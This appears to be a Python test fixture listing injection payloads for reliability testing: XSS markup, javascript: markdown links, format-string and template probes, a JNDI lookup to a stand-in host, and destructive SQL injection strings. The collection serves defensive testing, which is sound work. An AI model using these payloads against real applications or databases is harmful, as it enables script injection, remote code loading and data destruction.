"""Strings that do something where they are taken for markup, script, format or SQL (RELIABILITY.md, T-21)."""

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    '"><script>alert(4)</script>',
    "'><img src=x onerror=alert(5)>",
    "<iframe srcdoc='<script>parent.alert(6)</script>'>",
    "<a href='javascript:alert(7)'>x</a>",
    "</code><script>alert(8)</script>",
    "</textarea><script>alert(9)</script>",
    "</title><script>alert(10)</script>",
    "<body onload=alert(11)>",
    "<details open ontoggle=alert(12)>",
    "<math><mtext></mtext><script>alert(13)</script></math>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<object data=javascript:alert(17)>",
    "<embed src=javascript:alert(18)>",
    "<form action=javascript:alert(19)><input type=submit>",
    "<b onmouseover=alert(20)>x</b>",
)
MARKDOWN = (
    "[x](javascript:alert(21))",
    "![x](http://evil.test/x.png)",
    "[![x](http://evil.test/y.png)](javascript:alert(23))",
    "<http://evil.test>",
    "http://evil.test/auto",
    "`code`<script>alert(26)</script>",
    "$\\href{javascript:alert(27)}{x}$",
    ":material/home:",
    "www.evil.test HTTPS://evil.test someone@evil.test",
    "| a | b |\n|---|---|\n| 1 | 2 |",
)
FORMATS = (
    "%s%s%s%n", "{0}", "{database_url}", "{self.__class__}", "${jndi:ldap://evil.test/a}", "{{7*7}}", "\x1b[31mred",
    "\u202egnirts", "=HYPERLINK(\"http://evil.test\")", "@SUM(1+1)",
)  # fmt: skip
SQL = (
    "'; DROP TABLE decisions; --", "' OR '1'='1", "1; SELECT pg_sleep(5)", "\\'; DELETE FROM anomalies; --",
    "') UNION SELECT null --", "%(model)s", "$1", "\" OR 1=1 --", "0x27", "admin'--",
)  # fmt: skip
PAYLOADS = (*MARKUP, *MARKDOWN, *FORMATS, *SQL)
